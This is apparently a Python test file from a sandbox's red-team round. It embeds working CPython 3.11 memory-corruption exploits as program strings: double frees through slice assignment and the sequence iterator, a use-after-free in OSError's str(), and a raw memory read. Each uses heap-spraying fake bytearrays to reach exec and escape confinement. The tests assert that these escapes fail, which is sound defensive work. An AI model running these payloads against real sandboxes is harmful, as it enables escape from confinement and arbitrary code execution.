"""Red team, round fourteen: the sandbox's language layer, attacked with ordinary tree programs.

Programs the upload check accepts, run by a real ``Supervisor`` and ``Previewer`` in real
confined children, no mocks. ``docs/red-team/round14-language.md`` has the reproductions, what
held, and the suggested fixes; the numbers below are its findings'. Every memory experiment
runs in a child, never in the pytest process.
"""

from __future__ import annotations

from runner.supervise.check import Checker
from tests.hardening.confined_runs import FROM_MEMORY_TO_EXEC as _FROM_MEMORY_TO_EXEC
from tests.hardening.confined_runs import assert_no_escape
from tests.hardening.confined_runs import config as _config
from tests.hardening.confined_runs import dry_run as _dry_run
from tests.hardening.confined_runs import tree_run as _tree_run

# The start of every escape: a bytearray header (refcount, type, size 2**62, allocated,
# ob_bytes = ob_start = 0) at offset 16 of an 848-byte buffer, i.e. where a freed 844- to
# 856-byte object (after its 16-byte GC header) was; malloc's tcache hands the chunk back.
FAKE_BYTEARRAY = """def word(value):
    return value.to_bytes(8, "little")


FAKE = bytes(16) + word(1 << 40) + word(id(bytearray)) + word(1 << 62) + word(1 << 62)
FAKE = FAKE + bytes(847 - len(FAKE))
"""

# From a fake bytearray over the whole address space to the real ``exec``, as in rounds eight
# to thirteen: ``id(print) + 16`` is the ``SandboxFunction``'s ``_call`` (a function of
# ``runner.sandbox.guards``), ``+ 16`` its ``__globals__``, stored into a list of the program's.
FROM_MEMORY_TO_EXEC = _FROM_MEMORY_TO_EXEC


# --- 1. Extended slice assignment sizes the slice before it reads the values -----------------
#
# CPython 3.11's ``list_ass_subscript`` (``lst[a:b:step] = values``, step != 1) computes the
# slice's start and length from the list's size, *then* turns ``values`` into a sequence
# (``PySequence_Fast``: the values' ``__iter__``/``__next__``, program code), then, for each
# slot of the slice as first computed, keeps the old pointer to release later and stores the
# new one. Program code that shrinks the list in between (``del lights[6:]``: the list keeps
# its memory, slots past the new end keep their stale pointers) makes the loop release those
# stale pointers a second time (python/cpython gh-120384, fixed in 3.12.5 and 3.13 by sizing
# the slice after the values are read; never in 3.11, which took only security fixes by
# then). A tuple of 100 items in slot 6, also held in ``found``, is freed while ``found``
# still holds it; a same-size ``bytearray`` gets the chunk back. Found: every run (runner 4 of
# 4, tree and dry run), ``completed``/``ended``, log "ESCAPED: pid, uid, environment: (...,
# 65534, ['LC_CTYPE'])"; plain CPython 3.11.7 gets the fake too (and segfaults at exit).
SLICE_ESCAPE = (
    FAKE_BYTEARRAY
    + """

class Ornament(tuple):
    pass


found = [Ornament(range(100))]  # an 848-byte malloc chunk
lights = list(range(10))
lights[6] = found[0]
spray = []


class Twinkle:
    def __iter__(self):
        del lights[6:]  # the list shrinks; slot 6 keeps the (now uncounted) pointer
        return iter([100, 101, 102, 103, 104])


lights[::2] = Twinkle()  # slots 0, 2, 4, 6, 8 as sized before: slot 6 released once more
spray = [bytearray(FAKE) for i in range(50)]
"""
    + FROM_MEMORY_TO_EXEC
)


def test_a_program_cant_release_a_list_item_twice_through_an_extended_slice_assignment() -> None:
    assert_no_escape(SLICE_ESCAPE, "slice-escape")


# --- 2. An old-style sequence's iterator lets go of it twice ---------------------------------
#
# ``iter(obj)`` for an object with ``__getitem__`` and no ``__iter__`` is CPython's sequence
# iterator (``iter_iternext`` in ``Objects/iterobject.c``, the same in 3.11 and today): it
# copies ``it->it_seq`` to a local, calls ``__getitem__``, and on ``IndexError`` sets
# ``it_seq`` to NULL and releases the local. A ``__getitem__`` that calls ``next()`` on the
# same iterator ends the iteration from inside (the inner call releases the sequence); when
# the outer call's ``__getitem__`` then raises ``IndexError`` too, the outer call releases it
# again through its stale local. The iterator owned one reference and gave up two: the
# sequence is freed while the program still holds it. (Upstream fixed the free-threaded twin
# of this in 2026, gh-156310; the single-thread re-entrant path is the same code with the GIL.)
# An ``int`` subclass of 6,000 bits is an 844-byte malloc chunk. Found: every run,
# ``completed``/``ended``, "ESCAPED: ..."; plain CPython 3.11.7 without the spray segfaults.
SEQUENCE_ITERATOR_ESCAPE = (
    FAKE_BYTEARRAY
    + """
state = {"inner": False, "spray": None}


class Ring(int):
    # A sequence the old way: items by index, the end by IndexError.
    def __getitem__(self, index):
        if not state["inner"]:
            state["inner"] = True
            try:
                next(steps)  # the inner call ends the iteration and lets go of us...
            except StopIteration:
                pass
        raise IndexError  # ...and the outer call, ending too, lets go of us once more


found = [Ring(1 << 6000)]  # an 844-byte malloc chunk
steps = iter(found[0])
try:
    next(steps)
except StopIteration:
    pass
state["spray"] = [bytearray(FAKE) for i in range(50)]
"""
    + FROM_MEMORY_TO_EXEC
)


def test_a_program_cant_make_a_sequence_iterator_release_its_sequence_twice() -> None:
    assert_no_escape(SEQUENCE_ITERATOR_ESCAPE, "seqiter-escape")


# --- 3. OSError's str() formats through pointers a __str__ can free -------------------------
#
# CPython's ``OSError_str`` (``Objects/exceptions.c``, 3.11 and today) reads the exception's
# ``errno`` and ``strerror`` fields and hands both, borrowed, to ``PyUnicode_FromFormat("[Errno
# %S] %S", ...)``. The first ``%S`` runs the errno object's ``__str__`` (program code), which
# may set ``problem.args = ()`` and ``problem.strerror = "changed"`` (a program's exception
# subclass is writable): the old message is freed, and the second ``%S`` calls ``str()`` on
# the freed pointer. A tuple of 100 items is an 848-byte chunk; a same-size ``bytearray``
# refills it with a header whose type is the program's ``bytearray`` subclass, so its
# ``__str__`` is handed the fake as ``self``. Found: every run, ``completed``/``ended``,
# "ESCAPED: ..."; plain CPython 3.11.7 gets the fake too (and segfaults at exit). No upstream
# report found.
OSERROR_STR_ESCAPE = (
    """def word(value):
    return value.to_bytes(8, "little")


class Memory(bytearray):
    def __str__(self):  # called on the fake: the program is handed it
        found.append(self)
        return "memory"


FAKE = bytes(16) + word(1 << 40) + word(id(Memory)) + word(1 << 62) + word(1 << 62)
FAKE = FAKE + bytes(847 - len(FAKE))
found = []
state = {}


class Words(tuple):
    pass


class Code:
    def __str__(self):
        problem.args = ()  # the arguments tuple lets go of the message...
        problem.strerror = "changed"  # ...and so does the exception: freed
        state["spray"] = [bytearray(FAKE) for i in range(50)]
        return "5"


class Problem(OSError):
    pass


problem = Problem(Code(), Words(range(100)))  # errno, strerror
text = str(problem)  # "[Errno %S] %S": the second %S gets the freed message
"""
    + FROM_MEMORY_TO_EXEC
)


def test_a_program_cant_free_an_oserrors_message_while_str_formats_it() -> None:
    assert_no_escape(OSERROR_STR_ESCAPE, "oserror-str-escape")


# --- 4. UnicodeDecodeError's str() reads a byte of whatever its object field points at -----
#
# CPython 3.11's ``UnicodeDecodeError_str`` checks ``start < PyBytes_GET_SIZE(object)`` and
# reads ``PyBytes_AS_STRING(object)[start]`` without checking that ``object`` is a ``bytes``;
# the field is writable with any object (newer versions check its type, I believe; not
# verified). A
# program's subclass makes ``object`` a list of 100,000 items: its size says 100,000, its
# object is 40 bytes, and ``str()`` reads one byte at ``id(list) + 32 + start`` for any
# ``start`` below 100,000: the list's own ``allocated`` field first, then the heap after it.
# Found: runner and tests, ``completed``/``ended``, log "raw memory: True 100000" (the bytes
# at offsets 0-7 are the list's allocated count). Read only: no write or fake object found.
DECODE_ERROR_READ = """class Decoding(UnicodeDecodeError):
    pass


probe = list(range(100000))  # Py_SIZE 100000; the object itself is 40 bytes
problem = Decoding("utf-8", b"x", 0, 1, "bad")
got = []
try:
    problem.object = probe
    for start in range(8):
        problem.start = start
        problem.end = start + 1
        got.append(int(str(problem).split("byte 0x")[1][:2], 16))
except Exception as error:  # a fix may refuse the non-bytes object
    print("refused:", type(error).__name__)
value = int.from_bytes(bytes(got), "little")
print("raw memory:", value == 100000, value)
"""


def test_a_program_cant_read_raw_memory_through_a_unicode_decode_errors_str() -> None:
    program = DECODE_ERROR_READ
    refused = Checker(_config()).check(program)
    assert refused == [] or all(e.line is not None for e in refused), refused
    real = _tree_run(program, "decode-error-read")
    predicted = _dry_run(program)
    for log in (real.log, predicted.log):
        assert "raw memory: True" not in log, log
    assert real.reason != "killed", real.error
    assert predicted.reason != "killed", predicted.error


# --- 6. The sandbox's iter(callable, sentinel) compares the other way round -----------------
#
# CPython compares ``sentinel == value`` (the sentinel's ``__eq__`` first: round thirteen's
# write-up said so); ``guards.make_iter``'s generator compares ``value == sentinel``. When both
# define ``__eq__`` (a reading class, and a sentinel that matches "any reading that says
# stop"), the sandbox asks the other object and the loop ends at a different reading. Found:
# plain CPython prints "['sentinel', 'value']", the sandbox "['value', 'sentinel']".
COMPARISON_ORDER = """calls = []


class Mark:
    def __init__(self, name):
        self.name = name

    def __eq__(self, other):
        calls.append(self.name)
        return NotImplemented


values = [Mark("value"), Mark("value")]


def reader():
    return values.pop()


stream = iter(reader, Mark("sentinel"))
next(stream)
print(calls)
"""


def test_iter_with_a_sentinel_asks_the_sentinel_first_as_python_does() -> None:
    program = COMPARISON_ORDER
    assert Checker(_config()).check(program) == []
    real = _tree_run(program, "iter-order")
    predicted = _dry_run(program)
    for log in (real.log, predicted.log):
        assert log == "['sentinel', 'value']\n", log


# --- 5. The sandbox's iter(callable, sentinel) dies with the first error it passes on --------
#
# CPython's callable iterator passes on an exception from the callable (or the comparison)
# and stays usable: the next ``next()`` calls the callable again. ``guards.make_iter``'s
# generator is finished once an exception has left it, so every later ``next()`` says
# ``StopIteration``. A program that retries a flaky reading loses every reading after the
# first error, silently. Found: plain CPython prints "[3, 5, 7]", the sandbox "[3]" (tree and
# dry run, ``completed``/``ended``).
RETRY_AFTER_ERROR = """readings = [3, "glitch", 5, 7, 0]


def read_sensor():
    value = readings.pop(0)
    if value == "glitch":
        raise ValueError("sensor glitch")
    return value


stream = iter(read_sensor, 0)
got = []
while True:
    try:
        got.append(next(stream))
    except ValueError:
        continue  # a glitch: read again
    except StopIteration:
        break
print(got)
"""


def test_iter_with_a_sentinel_goes_on_after_the_callable_raised_as_python_does() -> None:
    program = RETRY_AFTER_ERROR
    assert Checker(_config()).check(program) == []
    real = _tree_run(program, "iter-retry")
    predicted = _dry_run(program)
    for log in (real.log, predicted.log):
        assert log == "[3, 5, 7]\n", log
